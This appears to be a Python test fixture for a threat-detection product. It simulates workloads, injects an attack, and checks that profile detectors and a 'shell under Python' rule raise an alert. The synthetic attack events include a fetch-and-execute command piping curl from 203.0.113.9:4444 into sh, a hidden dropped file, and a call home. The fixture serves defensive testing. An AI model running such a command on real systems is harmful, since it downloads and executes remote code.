"""One case: three replicas at work, one of them attacked, judged by real profiles and a rule, and stored.

The belief is a plain sum made for these tests (start, the strongest profile, the rule's weight); all else is the
product's own.
"""

from __future__ import annotations

import copy
import math
import shutil
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

from made_events import MINUTE, START, Event, batch_of, day_of_work, delivery_of, lay

from lichen.core.alert import Alert, alert_uid
from lichen.core.batch import Delivery
from lichen.core.belief import MALICIOUS, Belief, Line
from lichen.core.change import Overlay
from lichen.core.doors import Detector
from lichen.core.entity import Subject
from lichen.core.evidence import Evidence
from lichen.core.time import day_of, window_start
from lichen.detect.profiles.profile import Profile
from lichen.detect.profiles.rates import RateProfile
from lichen.detect.profiles.uses import USES
from lichen.detect.rules.detector import RulesDetector
from lichen.detect.rules.ruleset import RuleSet
from lichen.learn.consequence import Court
from lichen.learn.rescore import Bench, judge
from lichen.store.records import Judged
from lichen.store.store import Store

MINUTES = 5
CUT = 0.0
RULE = """
title: A shell under Python
id: 5a1e7d3e-0c1b-4f53-9d07-1c86f3a0a001
status: stable
level: high
logsource: {product: linux, category: process_creation}
detection:
  selection: {ParentImage|endswith: /python3.11, Image|endswith: /dash}
  condition: selection
"""
RULE_ID = "rule:5a1e7d3e-0c1b-4f53-9d07-1c86f3a0a001"
VICTIM, TWIN = Subject("workload", "orders-1"), Subject("workload", "orders-2")
NODES = ("orders-1", "image orders@1", "group orders", "fleet")
MEMBERS = {"orders-1": 1, "image orders@1": 3, "group orders": 3, "fleet": 4}
ATTACKED = window_start(START + 40 * MINUTE, MINUTES)


def placed(events: Sequence[Event]) -> list[Event]:
    """Events with the image and group of their workload."""
    return [
        Event(e.kind, e.time, e.offset, e.text, {**e.view, "subject.image": "orders@1", "subject.group": "orders"})
        for e in events
    ]


def attack(workload: str, start: int) -> list[tuple[str, int, str, dict[str, Any]]]:
    """A shell under the service, a file dropped, and a call home."""
    python, shell, curl = "/usr/bin/python3.11", "/usr/bin/dash", "/usr/bin/curl"
    line = "sh -c 'curl 203.0.113.9:4444|sh'"
    first = {"process.file.path": shell, "process.cmd_line": line, "actor.process.file.path": python}
    second = {"process.file.path": curl, "process.cmd_line": "curl 203.0.113.9", "actor.process.file.path": shell}
    there = {"dst_endpoint.ip": "203.0.113.9", "dst_endpoint.port": 4444, "actor.process.file.path": curl}
    return [
        ("exec", start + 1_000_000, workload, first),
        ("exec", start + 2_000_000, workload, second),
        ("file", start + 3_000_000, workload, {"file.path": "/usr/bin/.kx7", "actor.process.file.path": curl}),
        ("net", start + 4_000_000, workload, there),
    ]


def taught(models: Mapping[str, Any], events: Sequence[Event]) -> dict[str, Any]:
    """The models after learning these events."""
    learned = dict(models)
    for batch in delivery_of(events, 0).batches:
        learned = {name: model.learn(batch) for name, model in learned.items()}
    return learned


class Case:
    """The store after it all, with its alert; `bench` judges under the versions in force."""

    def __init__(self, folder: Path) -> None:
        (folder / "rules").mkdir()
        (folder / "rules" / "shell.yml").write_text(RULE, encoding="utf-8")
        self.rules = RulesDetector(RuleSet.load([folder / "rules"]), minutes=MINUTES)
        untaught = {
            f"profile.{name}": Profile(USES[name], MINUTES) for name in ("process", "pair", "path", "destination")
        }
        self.models: dict[str, Any] = {**untaught, "profile.rate": RateProfile(MINUTES)}
        self.models = taught(self.models, placed(day_of_work(seed=5, count=900, start=START - 200 * MINUTE)))
        self.store = Store(folder / "store")
        work = day_of_work(seed=6, count=900)
        rows = [(e.kind, e.time, e.view["subject.workload"], e.view) for e in work]
        rows += attack(VICTIM.name, ATTACKED) + attack(TWIN.name, ATTACKED + 30 * MINUTE)
        self.events = placed(lay(sorted(rows, key=lambda row: row[1])))
        self.alerts: dict[Subject, Alert] = {}
        self.run()

    @property
    def alert(self) -> Alert:
        return self.alerts[VICTIM]

    def copied(self, folder: Path) -> Case:
        """The same case on a copy of its store."""
        shutil.copytree(self.store.folder, folder)
        own = copy.copy(self)
        own.store, own.models, own.alerts = Store(folder), dict(self.models), dict(self.alerts)
        return own

    def detectors(self, overlays: Sequence[Overlay] = ()) -> dict[str, Detector]:
        laid = {name: model.with_overlays(overlays) for name, model in self.models.items()}
        return {**laid, "rules": self.rules}

    def bench(self, overlays: Sequence[Overlay] = ()) -> Bench:
        return Bench(self.detectors(overlays), lambda evidence: believe(evidence, overlays))

    def judging(self, versions: Mapping[str, str], overlays: Sequence[Overlay] | None) -> Bench:
        return self.bench(self.store.answers.overlays() if overlays is None else overlays)

    @property
    def court(self) -> Court:
        read = lambda subject, since, until: self.store.lake.batches(subject=subject, since=since, until=until)  # noqa: E731
        return Court(read, lambda belief, lane: belief.log_odds > CUT, MINUTES, 10)

    def run(self) -> None:
        """The events through the detectors into the store, in deliveries of fifty; then beliefs and alerts."""
        detectors, memory = self.detectors(), {name: {} for name in self.detectors()}
        for at in range(0, len(self.events), 50):
            delivery = delivery_of(self.events[at : at + 50], at)
            self.store.keep(delivery, self._judged(delivery, detectors, memory))
        beliefs = believe(self.store.records.evidence(), ())
        crossing = [belief for belief in beliefs if belief.log_odds > CUT]
        versions = {name: detector.version for name, detector in detectors.items()}
        for subject in {belief.subject for belief in crossing}:
            own = tuple(belief for belief in crossing if belief.subject == subject)
            self.alerts[subject] = alert_of_beliefs(own, versions)
        self.store.records.judge_again(beliefs, list(self.alerts.values()))

    def _judged(self, delivery: Delivery, detectors: Mapping[str, Detector], memory: dict[str, Any]) -> Judged:
        evidence: list[Evidence] = []
        census = []
        for batch in delivery.batches:
            for name, detector in detectors.items():
                found, counted, memory[name] = detector.detect(batch, memory[name])
                evidence += found
                census += counted
        return Judged(evidence, census, dict(memory))


def alert_of_beliefs(beliefs: Sequence[Belief], versions: Mapping[str, str]) -> Alert:
    subject, first = beliefs[0].subject, beliefs[0].window
    uid = alert_uid(subject, first, MALICIOUS)
    last = beliefs[-1].window + MINUTES * MINUTE - 1
    title = f"{subject.name} ran a shell under python3"
    return Alert(
        uid, subject, day_of(first), MALICIOUS, title, tuple(beliefs), first, last, ("T1059.004",), dict(versions)
    )


def believe(evidence: Sequence[Evidence], overlays: Sequence[Overlay]) -> list[Belief]:
    """start −6.9; the strongest profile, where it speaks for malice; the rule's weight, less where it was answered."""
    by_window: dict[tuple[Subject, int], list[Evidence]] = {}
    for row in evidence:
        by_window.setdefault((row.subject, row.window), []).append(row)
    return [_belief(subject, window, rows, overlays) for (subject, window), rows in sorted(by_window.items())]


def _belief(subject: Subject, window: int, rows: Sequence[Evidence], overlays: Sequence[Overlay]) -> Belief:
    weights = {row.detector: _weight(row, subject, overlays) for row in rows}
    profiles = [row for row in rows if row.detector.startswith("profile.")]
    best = max(profiles, key=lambda row: (row.score_nats, row.detector), default=None)
    ledger = [Line("start", "start", -6.9)]
    for row in sorted(rows, key=lambda row: row.detector):
        counts = row is best or row.detector == RULE_ID
        nats = max(0.0, weights[row.detector]) if counts else 0.0
        family = "rules" if row.detector == RULE_ID else "normal"
        about = (row.detector, weights[row.detector], row.score_nats, row.cause, row.because)
        ledger.append(Line(row.because, family, nats, "", *about, row.techniques, row.sample_event_ids))
    total = math.fsum(line.nats for line in ledger)
    return Belief(subject, window, total, total, total - 1, total + 1, 1.0, 0.0, tuple(ledger), "test")


def _weight(row: Evidence, subject: Subject, overlays: Sequence[Overlay]) -> float:
    if row.detector != RULE_ID:
        return row.score_nats
    nodes = {subject.name, *NODES[1:]}
    fired = sum(o.benign_fired for o in overlays if o.detector == RULE_ID and o.node in nodes)
    return math.log(0.3 / min(1.0, (0.02 + fired) / (20 + fired)))


def evidence_of(case: Case, overlays: Sequence[Overlay] = ()) -> list[Evidence]:
    """Everything that the detectors say of the whole case under these overlays."""
    return judge([batch_of(e) for e in _by_kind(case.events)], case.detectors(overlays))


def _by_kind(events: Sequence[Event]) -> list[list[Event]]:
    kinds = dict.fromkeys(event.kind for event in events)
    return [[event for event in events if event.kind == kind] for kind in kinds]
